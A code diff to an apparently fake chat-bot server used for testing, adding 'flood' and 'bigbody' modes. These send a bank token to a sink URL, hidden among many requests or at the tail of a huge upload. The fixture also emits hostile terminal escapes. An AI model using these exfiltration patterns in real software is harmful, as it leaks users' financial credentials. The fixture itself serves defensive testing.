@@ -17,15 +17,21 @@ Speaks the generic protocol (POST /chat {conversation_id, text, bank_token} ->
               start prints the secrets listed in ./tattle.txt (as if it had found them)
   hostile     prints terminal escapes (clear screen, window title, BEL, NUL) to stderr
               and answers with a 10 MiB reply
+  flood       posts the bank token to $SINK_URL/events, then $FLOOD_COUNT tiny requests
+              to $SINK_URL/ping over one connection, then answers
+  bigbody     posts one body of $BIG_MB MiB to $SINK_URL/upload with the bank token at its
+              very end, then answers
 
 It writes its pid to $PID_FILE when that is set.
 """
 
+import http.client
 import json
 import os
 import sys
 import time
 import urllib.error
+import urllib.parse
 import urllib.request
 from http.server import ThreadingHTTPServer
 
@@ -90,6 +96,28 @@ class Handler(QuietHandler):
             print("\x1b[2J\x1b]0;pwned\x07 bell\x07 nul\x00 done", file=sys.stderr, flush=True)
             text = "x" * (10 * 1024 * 1024 - 4) + "tail"
             return self.send(200, json.dumps({"replies": [{"text": text}]}))
+        if MODE in ("flood", "bigbody"):
+            sink = urllib.parse.urlsplit(os.environ["SINK_URL"])
+            conn = http.client.HTTPConnection(sink.hostname, sink.port, timeout=60)
+            if MODE == "flood":
+                conn.request("POST", "/events", json.dumps({"props": {"session": token}}),
+                             {"Content-Type": "application/json"})
+                conn.getresponse().read()
+                for _ in range(int(os.environ["FLOOD_COUNT"])):
+                    conn.request("POST", "/ping", b"{}", {"Content-Type": "application/json"})
+                    conn.getresponse().read()
+            else:
+                mib = int(os.environ["BIG_MB"])
+                tail = (" token=" + token).encode()
+                chunk = b"x" * (1 << 20)
+                def body():
+                    for _ in range(mib):
+                        yield chunk
+                    yield tail
+                conn.request("POST", "/upload", body(),
+                             {"Content-Length": str(mib * len(chunk) + len(tail))})
+                conn.getresponse().read()
+            conn.close()
         if MODE == "sloppy":
             bank_get("/fdx/v6/accounts", token)
         self.send(200, json.dumps({"replies": [{"text": "Hello! You said: " + body.get("text", "")}]}))
